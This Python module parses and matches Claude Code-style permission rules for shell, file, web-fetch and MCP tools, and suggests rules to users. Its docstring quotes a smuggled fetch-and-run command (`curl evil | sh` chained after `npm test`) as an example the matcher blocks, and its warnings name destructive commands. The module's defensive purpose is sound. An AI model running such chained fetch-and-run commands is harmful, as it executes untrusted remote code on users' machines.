"""Permission rules in Claude Code's syntax (its `permissions` block), matched as Claude Code documents.

A rule is `Tool` (any input of that tool) or `Tool(specifier)`:

- `Bash(npm run test)` is one exact command; `Bash(npm run test:*)` a prefix ending at a word
  boundary (`npm run test`, `npm run test --watch`, never `npm run tests`); a `*` anywhere matches
  any run of characters (`Bash(git * main)`), and a pattern whose one `*` is a trailing ` *` also
  matches without it (`Bash(ls *)` matches `ls`, never `lsof`).
- A compound command (`&&`, `||`, `;`, `|`, `&`, newlines, `( )`, `$(...)`, backticks, `<(...)`) is
  cut into its commands, quotes respected. An allow needs EVERY command allowed (by one rule or
  several), so `Bash(npm test:*)` never allows `npm test && curl evil | sh`; a deny or an ask takes
  ANY command it matches, and reaches through leading `VAR=value` assignments and the wrappers
  `sudo`, `nohup`, `time`, `nice`, `command`, `exec`, `env` and `timeout <n>`. A command an exact
  rule names whole (`Bash(make && make install)`) matches that rule as written. A command the
  cutter cannot read (an unbalanced quote or parenthesis) is allowed only by an exact rule or by
  `Bash`; deny and ask then look at it whole and at its pieces between operator characters.
  Arithmetic `$((...))` counts as a substitution; a here-document's lines count as commands.
- `Read(...)`, `Edit(...)` (every editing tool: Edit, MultiEdit, Write, NotebookEdit), `Write(...)`,
  `MultiEdit(...)` and `NotebookEdit(...)` take gitignore patterns: `//abs/path` from the filesystem
  root, `~/path` from the home directory, `/path` and `./path` from the project root, and `path`
  relative to the project root (anchored when it holds a `/`, at any depth otherwise, as in
  gitignore). `*` and `?` stay within one directory, `**` crosses them, `[abc]` is a class, a
  trailing `/` names a directory; a pattern naming a directory covers everything under it. Without
  a project, project-relative rules match nothing; negation (`!`) and `..` are refused.
- `WebFetch(domain:example.com)` matches that host exactly (not `www.example.com`);
  `WebFetch(domain:*.example.com)` matches its subdomains at any depth (not `example.com` itself).
- `mcp__server` (or `mcp__server__*`) matches every tool of that server, `mcp__server__tool` one.
- `Tool(*)` and `Tool()` are `Tool`. Rules are evaluated deny, then ask, then allow; within each,
  the first matching rule (in the order given) decides, whatever its specificity.

Inside the parentheses a backslash escapes the next `\\`, `(` or `)` (Claude Code writes rules so);
a `\\` before anything else stays as written. In a `Bash` specifier, `\\*` is a literal asterisk
and `\\\\` a literal backslash: `Bash(ls \\*.py)` is the exact command `ls *.py`;
a leading `\\=` is a literal `=` (an exact command starting with one). A canonical
rule (`RulePattern.text`) escapes only what would otherwise be read differently.

Our extension, for the rules remembered before these patterns existed: `Tool(=<json>)` matches
exactly the input whose canonical JSON (sorted keys, no spaces) is `<json>`, for any tool.
"""

from __future__ import annotations

import json
import posixpath
import re
import shlex
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from enum import Enum, StrEnum
from functools import cached_property, lru_cache
from typing import Any

from backend.domain.rule_specifiers import (
    PathRoot,
    PatternError,
    command_spec,
    escape_command,
    escaped,
    glob_escape,
    host_spec,
    path_spec,
    read_specifier,
    render_specifier,
)
from backend.domain.rule_subjects import CallSubjects, canonical_input

__all__ = [
    "Behavior",
    "PathRoot",
    "PatternError",
    "PatternKind",
    "RulePattern",
    "RuleSet",
    "Suggestion",
    "decide",
    "escape_command",
    "export_settings",
    "legacy_pattern",
    "parse_pattern",
    "parse_settings",
    "render_specifier",
    "suggest_rules",
]


class Behavior(StrEnum):
    ALLOW = "allow"
    ASK = "ask"
    DENY = "deny"


class PatternKind(Enum):
    ANY = "any"  # the bare tool
    MCP_SERVER = "mcp_server"  # every tool of one MCP server
    EXACT_INPUT = "exact_input"  # Tool(=<json>)
    COMMAND = "command"  # Bash exact
    COMMAND_PATTERN = "command_pattern"  # Bash prefix or wildcard
    PATH = "path"
    HOST = "host"  # WebFetch exact host
    HOST_PATTERN = "host_pattern"  # WebFetch *.host or *


# The tools a path rule of each name covers (Claude Code: Edit rules apply to every editing tool).
PATH_RULE_TOOLS: dict[str, tuple[str, ...]] = {
    "Read": ("Read",),
    "Edit": ("Edit", "MultiEdit", "Write", "NotebookEdit"),
    "Write": ("Write",),
    "MultiEdit": ("MultiEdit",),
    "NotebookEdit": ("NotebookEdit",),
}
PATH_TOOLS = frozenset(t for tools in PATH_RULE_TOOLS.values() for t in tools)
_EDIT_TOOLS = frozenset(PATH_RULE_TOOLS["Edit"])
_TOOL_NAME = re.compile(r"[A-Za-z0-9_][A-Za-z0-9_.:@/+-]*")


@dataclass(frozen=True)
class RulePattern:
    """One parsed rule. `specifier` is the text inside the parentheses as read (escapes resolved),
    None for any input; `key` the literal an exact kind compares, `regex` the source a pattern kind
    matches (fully, DOTALL), `root` where a path rule starts."""

    tool: str
    specifier: str | None
    kind: PatternKind = field(compare=False)
    key: str = field(default="", compare=False, repr=False)
    regex: str = field(default="", compare=False, repr=False)
    root: PathRoot | None = field(default=None, compare=False, repr=False)

    @property
    def text(self) -> str:
        """The canonical rule: what `export_settings` writes and `parse_pattern` reads back."""
        return self.tool if self.specifier is None else f"{self.tool}({render_specifier(self.specifier)})"

    def applies_to(self, tool_name: str) -> bool:
        if self.kind is PatternKind.MCP_SERVER:
            return tool_name.startswith(self.tool + "__")
        if self.kind is PatternKind.PATH:
            return tool_name in PATH_RULE_TOOLS[self.tool]
        return tool_name == self.tool

    @cached_property
    def _alone(self) -> RuleSet:
        return RuleSet.compile([(Behavior.ALLOW, self, None), (Behavior.DENY, self, None)])

    def matches(
        self,
        tool_name: str,
        tool_input: Mapping[str, Any],
        *,
        project: str | None,
        home: str | None,
        any_part: bool = False,
    ) -> bool:
        """Whether this rule covers the call: as an allow (every command of a compound `Bash`
        command matches) or, with `any_part`, as a deny or an ask does (any command matches)."""
        index = self._alone.index(Behavior.DENY if any_part else Behavior.ALLOW)
        return (
            index.first(CallSubjects(tool_name, tool_input, project, home), every_part=not any_part)
            is not None
        )


# --- reading a rule -------------------------------------------------------------------------------


def parse_pattern(text: str) -> RulePattern:
    """The rule `text` means, or PatternError naming what is wrong with it. Rules are read once:
    a scope's rules, compiled again, cost only their regexes."""
    if not isinstance(text, str):
        raise PatternError(f"a rule is text, not {type(text).__name__}")
    return _parse(text)


@lru_cache(maxsize=8192)
def _parse(text: str) -> RulePattern:
    raw = text.strip()
    if not raw:
        raise PatternError("the rule is empty")
    open_at = raw.find("(")
    if open_at < 0:
        if ")" in raw:
            raise PatternError(f"{raw!r} has a ')' without a '('")
        return _bare(raw, raw)
    tool = raw[:open_at]
    if not raw.endswith(")") or escaped(raw, len(raw) - 1):
        raise PatternError(f"{raw!r} does not end with the ')' closing its '('")
    if not tool:
        raise PatternError(f"{raw!r} has no tool name before '('")
    content = read_specifier(raw, raw[open_at + 1 : -1])
    if content.strip() in ("", "*"):
        return _bare(raw, tool)
    _check_tool_name(raw, tool)
    return _with_specifier(raw, tool, content)


def _check_tool_name(raw: str, tool: str) -> None:
    if _TOOL_NAME.fullmatch(tool) is None:
        raise PatternError(f"{raw!r}: {tool!r} is not a tool name (letters, digits, _ . : @ / + -)")


def _bare(raw: str, tool: str) -> RulePattern:
    if tool.startswith("mcp__"):
        server, sep, name = tool[len("mcp__") :].partition("__")
        if not server or server == "*":
            raise PatternError(f"{raw!r}: an MCP rule names its server (mcp__server or mcp__server__tool)")
        _check_tool_name(raw, server)
        if not sep or name == "*":
            return RulePattern(f"mcp__{server}", None, PatternKind.MCP_SERVER)
        if not name:
            raise PatternError(f"{raw!r}: no tool name after the server's '__'")
    _check_tool_name(raw, tool)
    return RulePattern(tool, None, PatternKind.ANY)


def _with_specifier(raw: str, tool: str, written: str) -> RulePattern:
    content = written.strip()
    if content.startswith("="):
        try:
            value = json.loads(content[1:])
            key = canonical_input(value)
        except ValueError as exc:
            raise PatternError(f"{raw!r}: what follows '=' is not JSON ({exc})") from None
        return RulePattern(tool, "=" + key, PatternKind.EXACT_INPUT, key=key)
    if tool.startswith("mcp__"):
        raise PatternError(f"{raw!r}: an MCP rule takes no specifier (write {tool} for any input)")
    if content.startswith("domain:") and tool not in ("WebFetch", "Bash"):  # a command may start so
        raise PatternError(f"{raw!r}: 'domain:' belongs to WebFetch rules only")
    if tool == "WebFetch":
        spec, host, regex = host_spec(raw, content)
        if host is not None:
            return RulePattern(tool, spec, PatternKind.HOST, key=host)
        return RulePattern(tool, spec, PatternKind.HOST_PATTERN, regex=regex or "")
    if tool == "Bash":
        command, regex = command_spec(raw, content)
        if command is not None:
            return RulePattern(tool, content, PatternKind.COMMAND, key=command)
        return RulePattern(tool, content, PatternKind.COMMAND_PATTERN, regex=regex or "")
    if tool in PATH_RULE_TOOLS:
        path, root, regex = path_spec(raw, written)
        return RulePattern(tool, path, PatternKind.PATH, regex=regex, root=root)
    raise PatternError(
        f"{raw!r}: {tool} takes no specifier this matcher knows; write {tool} for any input"
        f" or {tool}(=<input as JSON>) for one exact input"
    )


# --- many rules at once ---------------------------------------------------------------------------


@dataclass
class _Alternation:
    """Many rules' regexes as one: the first alternative that matches is the first rule in order."""

    regex: re.Pattern[str]
    positions: list[int]

    def first(self, subject: str) -> int | None:
        match = self.regex.fullmatch(subject)
        return None if match is None or match.lastindex is None else self.positions[match.lastindex - 1]


def _least(*found: int | None) -> int | None:
    return min((p for p in found if p is not None), default=None)


def _path_key(tool: str, root: PathRoot | None) -> str:
    return f"path {tool} {root.value if root else ''}"


class _Index:
    """One behavior's rules, by what they compare: a dict per exact kind, one regex per pattern kind."""

    def __init__(self) -> None:
        self.tools: dict[str, int] = {}
        self.servers: dict[str, int] = {}
        self.inputs: dict[tuple[str, str], int] = {}
        self.commands: dict[str, int] = {}
        self.hosts: dict[str, int] = {}
        self.sources: dict[str, list[tuple[str, int]]] = {}
        self.alternations: dict[str, _Alternation] = {}

    def add(self, position: int, pattern: RulePattern) -> None:
        kind = pattern.kind
        if kind in (PatternKind.ANY, PatternKind.MCP_SERVER):
            (self.tools if kind is PatternKind.ANY else self.servers).setdefault(pattern.tool, position)
        elif kind is PatternKind.EXACT_INPUT:
            self.inputs.setdefault((pattern.tool, pattern.key), position)
        elif kind is PatternKind.COMMAND:
            self.commands.setdefault(pattern.key, position)
        elif kind is PatternKind.HOST:
            self.hosts.setdefault(pattern.key, position)
        elif kind is PatternKind.PATH:
            for tool in PATH_RULE_TOOLS[pattern.tool]:
                self.sources.setdefault(_path_key(tool, pattern.root), []).append((pattern.regex, position))
        else:
            key = "command" if kind is PatternKind.COMMAND_PATTERN else "host"
            self.sources.setdefault(key, []).append((pattern.regex, position))

    def seal(self) -> None:
        for key, sources in self.sources.items():
            regex = re.compile("|".join(f"({source})" for source, _ in sources), re.DOTALL)
            self.alternations[key] = _Alternation(regex, [p for _, p in sources])

    def first(self, request: CallSubjects, *, every_part: bool) -> int | None:
        """The position of the first rule matching `request`; `every_part`: as an allow matches."""
        found = [self.tools.get(request.tool)]
        if request.server is not None:
            found.append(self.servers.get(request.server))
        if self.inputs and request.exact_input is not None:
            found.append(self.inputs.get((request.tool, request.exact_input)))
        if request.tool == "Bash":
            found.append(self._command(request, every_part))
        elif request.tool in PATH_TOOLS:
            for root, rel in request.paths:
                path_rules = self.alternations.get(_path_key(request.tool, root))
                found.append(path_rules.first(rel) if path_rules else None)
        elif request.tool == "WebFetch" and request.host is not None:
            hosts = self.alternations.get("host")
            found += [self.hosts.get(request.host), hosts.first(request.host) if hosts else None]
        return _least(*found)

    def _command(self, request: CallSubjects, every_part: bool) -> int | None:
        if request.command is None:
            return None
        patterns = self.alternations.get("command")
        if not every_part:
            hits = [self.commands.get(s) for s in request.loose]
            if patterns is not None:
                hits += [patterns.first(s) for s in request.loose]
            return _least(*hits)
        whole = self.commands.get(request.command)
        each: list[int] = []
        for part in request.parts or ():
            hit = _least(self.commands.get(part), patterns.first(part) if patterns else None)
            if hit is None:
                return whole
            each.append(hit)
        return _least(whole, min(each, default=None))


class RuleSet:
    """Rules compiled once for many decisions: `RuleSet.compile(rules).decide(...)`."""

    def __init__(self, handles: list[Any], indexes: dict[Behavior, _Index]) -> None:
        self.handles = handles
        self.indexes = indexes

    @classmethod
    def compile(cls, rules: Iterable[tuple[Behavior, RulePattern, Any]]) -> RuleSet:
        handles: list[Any] = []
        indexes = {behavior: _Index() for behavior in Behavior}
        for position, (behavior, pattern, handle) in enumerate(rules):
            handles.append(handle)
            indexes[Behavior(behavior)].add(position, pattern)
        for index in indexes.values():
            index.seal()
        return cls(handles, indexes)

    def __len__(self) -> int:
        return len(self.handles)

    def index(self, behavior: Behavior) -> _Index:
        return self.indexes[behavior]

    def decide(
        self, tool_name: str, tool_input: Mapping[str, Any], *, project: str | None, home: str | None
    ) -> tuple[Behavior, Any] | None:
        """Deny, then ask, then allow: the first rule of the first behavior that matches, and its
        handle; None when no rule matches (a person is asked, as without rules)."""
        request = CallSubjects(tool_name, tool_input, project, home)
        for behavior in (Behavior.DENY, Behavior.ASK, Behavior.ALLOW):
            position = self.indexes[behavior].first(request, every_part=behavior is Behavior.ALLOW)
            if position is not None:
                return behavior, self.handles[position]
        return None


def decide(
    rules: Sequence[tuple[Behavior, RulePattern, Any]],
    tool_name: str,
    tool_input: Mapping[str, Any],
    *,
    project: str | None,
    home: str | None,
) -> tuple[Behavior, Any] | None:
    """`RuleSet.compile(rules).decide(...)`, for one decision."""
    return RuleSet.compile(rules).decide(tool_name, tool_input, project=project, home=home)


# --- settings, carry-over, suggestions ------------------------------------------------------------


def parse_settings(block: Any) -> list[tuple[Behavior, RulePattern]]:
    """The rules of a Claude Code `permissions` block (or of a whole settings file holding one),
    in the order allow, ask, deny; other keys are ignored. Every bad entry is named by its index
    ("deny[2]: ...") in one PatternError, and then nothing is returned."""
    if isinstance(block, Mapping) and "permissions" in block:
        block = block["permissions"]
    if not isinstance(block, Mapping):
        raise PatternError(
            "expected a permissions block: an object with allow, ask and deny lists", field="permissions"
        )
    rules: list[tuple[Behavior, RulePattern]] = []
    problems: list[str] = []
    for behavior in Behavior:
        entries = block.get(behavior.value)
        if entries is None:
            continue
        if not isinstance(entries, list):
            problems.append(f"{behavior.value}: expected a list of rules")
            continue
        for i, entry in enumerate(entries):
            try:
                rules.append((behavior, parse_pattern(entry)))
            except PatternError as exc:
                problems.append(f"{behavior.value}[{i}]: {exc.reason}")
    if problems:
        count = f"{len(problems)} rule{'s' if len(problems) > 1 else ''} refused"
        raise PatternError(f"{count}: " + "; ".join(problems), field="permissions", problems=problems)
    return rules


def export_settings(rules: Iterable[Sequence[Any]]) -> dict[str, list[str]]:
    """A `permissions` block (allow, ask, deny) holding `rules` ((behavior, pattern[, handle])
    tuples) in their order, each canonical rule once: `parse_settings` reads it back."""
    block: dict[str, list[str]] = {b.value: [] for b in Behavior}
    for rule in rules:
        texts = block[Behavior(rule[0]).value]
        if rule[1].text not in texts:
            texts.append(rule[1].text)
    return block


def legacy_pattern(tool_name: str, tool_input: Any, any_input: bool) -> RulePattern:
    """The pattern a rule remembered before patterns existed becomes, matching what it matched:
    any input -> the bare tool; a `Bash` input of one `command` -> `Bash(<command>)` exact; any
    other input -> `Tool(=<canonical json>)`. PatternError when the tool's name is not one a rule
    can hold."""
    if any_input:
        return parse_pattern(tool_name)
    if tool_name == "Bash" and isinstance(tool_input, Mapping) and set(tool_input) == {"command"}:
        command = tool_input["command"]
        if isinstance(command, str) and command.strip() and command == command.strip():
            return parse_pattern(f"Bash({render_specifier(escape_command(command))})")
    return parse_pattern(f"{tool_name}({render_specifier('=' + canonical_input(tool_input))})")


@dataclass(frozen=True)
class Suggestion:
    pattern: RulePattern
    label: str
    broad: bool = False
    warning: str | None = None


BROAD_WARNINGS = {
    "Bash": "Runs every shell command without asking, whatever it does: deleting files (rm -rf), "
    "pushing or force-pushing code, deploying, installing packages, sending data anywhere (curl).",
    "Write": "Creates or overwrites any file the agent can reach, inside the project or not, "
    "without asking: configuration, credentials and scripts included.",
    "Edit": "Changes any file the agent can reach, inside the project or not, without asking: "
    "configuration, credentials and scripts included.",
}
BROAD_WARNINGS["MultiEdit"] = BROAD_WARNINGS["NotebookEdit"] = BROAD_WARNINGS["Edit"]
_PLAIN_WORD = re.compile(r"[A-Za-z0-9_@%+][A-Za-z0-9_.@%+-]*")


def suggest_rules(
    tool_name: str, tool_input: Mapping[str, Any], *, project: str | None = None, home: str | None = None
) -> list[Suggestion]:
    """The rules a person likely means, narrowest first: this exact call; the command's prefix
    (`Bash`) or the file's folder (path tools) or the host (`WebFetch`) or the server (MCP);
    the bare tool, `broad` with a warning for the tools whose any input lets anything through.
    Nothing for a tool whose name no rule can hold."""
    try:
        return _suggestions(tool_name, tool_input, project, home)
    except PatternError:
        return []


def _suggestions(
    tool_name: str, tool_input: Mapping[str, Any], project: str | None, home: str | None
) -> list[Suggestion]:
    out: list[Suggestion] = []
    command = tool_input.get("command")
    if tool_name == "Bash" and isinstance(command, str) and command.strip():
        out += _command_suggestions(command)
    elif tool_name in PATH_TOOLS and CallSubjects(tool_name, tool_input, project, home).paths:
        out += _path_suggestions(tool_name, CallSubjects(tool_name, tool_input, project, home))
    else:
        out.append(Suggestion(legacy_pattern(tool_name, tool_input, False), "This exact call"))
    host = CallSubjects(tool_name, tool_input, project, home).host if tool_name == "WebFetch" else None
    if host is not None:
        out.append(Suggestion(parse_pattern(f"WebFetch(domain:{host})"), f"Fetches from {host}"))
    bare = parse_pattern(tool_name)
    if bare.kind is PatternKind.ANY and tool_name.startswith("mcp__"):
        server = tool_name.split("__")[1]
        out.append(Suggestion(bare, f"Any call of {tool_name}"))
        bare = parse_pattern(f"mcp__{server}")
        out.append(Suggestion(bare, f"Any tool of the MCP server {server}"))
    else:
        warning = BROAD_WARNINGS.get(tool_name)
        noun = {"Bash": "Any Bash command", "Read": "Any file read"}.get(tool_name)
        label = noun or ("Any file change" if tool_name in _EDIT_TOOLS else f"Any use of {tool_name}")
        out.append(Suggestion(bare, label, broad=warning is not None, warning=warning))
    return out


def _command_suggestions(command: str) -> list[Suggestion]:
    command = command.strip()
    out = [
        Suggestion(parse_pattern(f"Bash({render_specifier(escape_command(command))})"), "This exact command")
    ]
    prefix = command_prefix(command)
    if prefix is not None:
        out.append(Suggestion(parse_pattern(f"Bash({prefix}:*)"), f"Commands starting with `{prefix}`"))
    return out


def command_prefix(command: str) -> str | None:
    """The first words of `command` a prefix rule would name: the first two when the second is
    neither a flag nor a path, else the first; never past a shell operator or a quote; None when
    the command does not start with a plain word."""
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    words: list[str] = []
    try:
        for token in lexer:
            if len(words) == 2 or _PLAIN_WORD.fullmatch(token) is None:
                break
            words.append(token)
    except ValueError:  # an unbalanced quote: nothing to suggest a prefix of
        return None
    while words and re.match(re.escape(" ".join(words)) + r"(?:[ \t]|$|[;|\n]|&(?!>))", command) is None:
        words.pop()  # a word quoted, escaped or glued to the next: the rule would not match it
    if len(words) == 2 and (words[1].startswith(("-", ".", "~")) or "/" in words[1]):
        words.pop()
    return " ".join(words) or None


_ROOT_WRITTEN = {PathRoot.PROJECT: "", PathRoot.HOME: "~/", PathRoot.ABSOLUTE: "//"}
_ROOT_NAMED = {
    PathRoot.PROJECT: "this project",
    PathRoot.HOME: "your home directory",
    PathRoot.ABSOLUTE: "any folder",
}


def _path_suggestions(tool_name: str, request: CallSubjects) -> list[Suggestion]:
    root, rel = request.paths[-1]  # the narrowest root: the project, else the home, else "/"
    written, folder = _ROOT_WRITTEN[root], posixpath.dirname(rel)
    rule_tool, file_verb, folder_verb = (
        ("Read", "Reads of", "Reads in") if tool_name == "Read" else ("Edit", "Changes to", "Edits in")
    )
    file_spec = f"{written}{glob_escape(rel)}"
    if not written and "/" not in rel:
        file_spec = f"./{file_spec}"  # anchored at the project root, as a path holding a / is
    folder_spec = f"{written}{glob_escape(folder)}/**" if folder else f"{written or './'}**"
    where = f"{written}{folder}/" if folder else _ROOT_NAMED[root]
    return [
        Suggestion(
            parse_pattern(f"{rule_tool}({render_specifier(file_spec)})"), f"{file_verb} {written}{rel}"
        ),
        Suggestion(parse_pattern(f"{rule_tool}({render_specifier(folder_spec)})"), f"{folder_verb} {where}"),
    ]
